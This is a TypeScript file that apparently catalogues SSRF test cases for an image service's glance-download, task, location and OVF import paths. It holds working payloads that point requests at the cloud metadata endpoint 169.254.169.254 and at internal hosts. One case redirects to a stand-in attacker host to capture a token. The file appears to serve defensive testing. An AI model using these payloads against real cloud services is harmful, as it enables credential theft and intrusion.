// The attacks that go other ways than web-download: tasks, locations, glance-download.
import { reaches, redirectVia, type UrlAttack } from './attack-step';

const metadata = '169.254.169.254:80';

/** Sorted as the catalogue is. */
export const otherAttacks: readonly UrlAttack[] = [
  {
    id: 'ssrf-glance-download',
    kind: 'glance-download',
    // A service catalogue names endpoints without the path of the image: the mark goes into the path.
    urls: (_, mark) => [
      `http://glance-internal.region2.test:9292/${mark}`,
      `https://glance-internal.region2.test/${mark}`,
    ],
    names: () => ({ 'glance-internal.region2.test': ['10.0.0.9'] }),
    hasWorked: reaches('10.0.0.9:9292', '10.0.0.9:443'),
  },
  {
    id: 'ssrf-glance-download-token',
    kind: 'glance-download',
    urls: (ground, mark) => [redirectVia(ground, `${ground.scheme}://attacker.test/${mark}`)],
    names: () => ({ 'attacker.test': ['203.0.113.66'] }),
    hasWorked: (_, seen) => seen.some(({ address, token }) => address === '203.0.113.66' && token === 'bed-token'),
  },
  {
    id: 'ssrf-legacy-tasks',
    kind: 'task',
    urls: (_, mark) => [`http://169.254.169.254/latest/meta-data/?${mark}`],
    hasWorked: reaches(metadata),
  },
  {
    id: 'ssrf-location-api',
    kind: 'location',
    urls: (_, mark) => [`http://169.254.169.254/latest/meta-data/?${mark}`],
    hasWorked: reaches(metadata),
  },
  {
    id: 'ssrf-location-api-redirect',
    kind: 'location',
    urls: (ground, mark) => [redirectVia(ground, `http://169.254.169.254/latest/meta-data/?${mark}`)],
    hasWorked: reaches(metadata),
  },
  {
    id: 'ssrf-ovf-process',
    kind: 'task',
    urls: (_, mark) => [`http://169.254.169.254/latest/meta-data/?${mark}`],
    step: { container: 'ova' },
    hasWorked: reaches(metadata),
  },
];
